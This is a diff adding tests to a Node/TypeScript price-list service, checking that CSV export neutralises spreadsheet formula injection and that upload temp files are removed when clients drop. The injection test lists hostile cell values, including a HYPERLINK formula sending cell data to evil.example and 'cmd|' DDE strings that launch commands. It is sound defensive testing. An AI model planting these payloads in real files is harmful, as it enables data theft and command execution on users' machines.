@@ -1,7 +1,11 @@
 import assert from 'node:assert/strict'
+import { readdirSync } from 'node:fs'
+import net from 'node:net'
+import { tmpdir } from 'node:os'
 import { after, before, beforeEach, describe, test } from 'node:test'
 import ExcelJS from 'exceljs'
 import type { FastifyInstance } from 'fastify'
+import Papa from 'papaparse'
 import {
   changeCount,
   clearGlassPrices,
@@ -233,6 +237,50 @@ eachDatabase('glass price list: upload and download', (ctx) => {
       )
     })
 
+    test('hostile models export with no live formula (plain and excel=true) and upload back unchanged', async () => {
+      const hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"RB01")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '\t=1+1',
+        '\r=2+2',
+        '-RB01',
+        "'quoted",
+        "'=already",
+      ]
+      await seedEntries(
+        ctx.db,
+        hostile.map((model, index) => ({
+          manufacturer: index === 0 ? '=cmd|"/C calc"!A0' : 'Safe',
+          brand: index === 1 ? '@brand' : 'Brand',
+          model,
+          price: 100 + index,
+          purchase: 50,
+        })),
+      )
+      const before = await stored()
+      for (const query of ['', '?excel=true']) {
+        const response = await download(query)
+        assert.equal(response.statusCode, 200)
+        const cells = Papa.parse<string[]>(response.body.replace(/^\ufeff/, ''), {
+          delimiter: query ? ';' : ',',
+          skipEmptyLines: true,
+        }).data.flat()
+        const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
+        assert.deepEqual(live, [], `no cell a spreadsheet runs as a formula (${query || 'plain'})`)
+        assert.ok(cells.includes(`'${hostile[0]}`) && cells.includes("'-RB01") && cells.includes("''quoted"))
+        await clearGlassPrices(ctx.db)
+        const back = await upload(response.rawPayload)
+        assert.equal(back.statusCode, 200, back.body)
+        assert.deepEqual(
+          (await stored()).map((row) => row.slice(0, 5)),
+          before.map((row) => row.slice(0, 5)),
+          `the round trip is lossless (${query || 'plain'})`,
+        )
+      }
+    })
+
     test('XLSX export opens with exceljs with the same rows, prices as numbers', async () => {
       await seedEntries(ctx.db, numberedEntries('Sheet', 3))
       const response = await download('?format=xlsx&brand=sheet')
@@ -258,6 +306,97 @@ eachDatabase('glass price list: upload and download', (ctx) => {
       assert.match(String(response.headers['content-type']), /^application\/problem\+json/)
       const reversed = await download('?priceFrom=10&priceTo=5')
       assert.equal(reversed.statusCode, 400)
+    })
+  })
+
+  describe('upload spools', () => {
+    // A real server and raw sockets: the client disappears the way a killed browser or curl does.
+    let server: FastifyInstance
+    let port: number
+    before(async () => {
+      server = await buildTestApp(ctx.db, { IMPORT_BODY_LIMIT: '4096' })
+      await server.listen({ port: 0, host: '127.0.0.1' })
+      port = (server.server.address() as net.AddressInfo).port
+    })
+    after(() => server?.close())
+
+    /** This process's upload spools in the temporary directory. */
+    const ownSpools = () => readdirSync(tmpdir()).filter((name) => name.startsWith(`optics-upload-${process.pid}-`))
+    const until = async (condition: () => boolean, what: string) => {
+      const deadline = Date.now() + 10_000
+      while (!condition()) {
+        if (Date.now() > deadline) assert.fail(`gave up waiting: ${what}`)
+        await new Promise((resolve) => setTimeout(resolve, 20))
+      }
+    }
+    const startUpload = (body: string, declaredLength = Buffer.byteLength(body)) => {
+      const socket = net.connect(port, '127.0.0.1')
+      socket.on('error', () => {})
+      socket.write(
+        `POST ${pricesPath}/import HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/csv\r\n` +
+          `Content-Length: ${declaredLength}\r\n\r\n${body}`,
+      )
+      return socket
+    }
+
+    test('an upload killed halfway leaves no spool file, and nothing is written', async () => {
+      const socket = startUpload(csv(header, 'A,B,C,1,1'), 4000)
+      await until(() => ownSpools().length === 1, 'the upload is spooled')
+      socket.destroy()
+      await until(() => ownSpools().length === 0, 'the spool is removed')
+      assert.deepEqual(await stored(), [])
+    })
+
+    test('an upload dropped while its import waits for the database leaves no spool file, and writes nothing', async () => {
+      let release = () => {}
+      const held = new Promise<void>((resolve) => (release = resolve))
+      let locked = () => {}
+      const lockTaken = new Promise<void>((resolve) => (locked = resolve))
+      const holder = ctx.db.rawTransaction(async (client) => {
+        await client.query('LOCK TABLE glasses_price IN ACCESS EXCLUSIVE MODE')
+        locked()
+        await held
+      })
+      await lockTaken
+      try {
+        const socket = startUpload(csv(header, 'A,B,C,1,1'))
+        await until(() => ownSpools().length === 1, 'the upload is spooled')
+        await new Promise((resolve) => setTimeout(resolve, 100))
+        socket.destroy()
+        await until(() => ownSpools().length === 0, 'the spool is removed')
+      } finally {
+        release()
+        await holder
+      }
+      // The import nobody waits for any more is cancelled: once the database moves, it commits nothing.
+      const probe = await app.inject({ method: 'GET', url: `${pricesPath}/list` })
+      assert.equal(probe.statusCode, 200)
+      await new Promise((resolve) => setTimeout(resolve, 300))
+      assert.deepEqual(await stored(), [])
+      assert.equal(await changeCount(ctx.db), 0)
+    })
+
+    test('answered uploads, good or refused, leave no spool file', async () => {
+      const answer = (body: string) =>
+        new Promise<number>((resolve, reject) => {
+          const socket = startUpload(body)
+          let text = ''
+          socket.on('data', (chunk: Buffer) => {
+            text += chunk.toString()
+            if (/\r\n\r\n/.test(text)) {
+              resolve(Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1]))
+              socket.destroy()
+            }
+          })
+          socket.on('error', reject)
+        })
+      assert.equal(await answer(csv(header, 'A,B,C,1,1')), 200)
+      assert.equal(await answer(csv(header, 'A,B,D,x,1')), 422)
+      assert.equal(
+        await answer(csv(header, ...numberedEntries('Big', 250).map((e) => `A,${e.brand},${e.model},1,1`))),
+        413,
+      )
+      await until(() => ownSpools().length === 0, 'every spool is removed')
     })
   })
 })
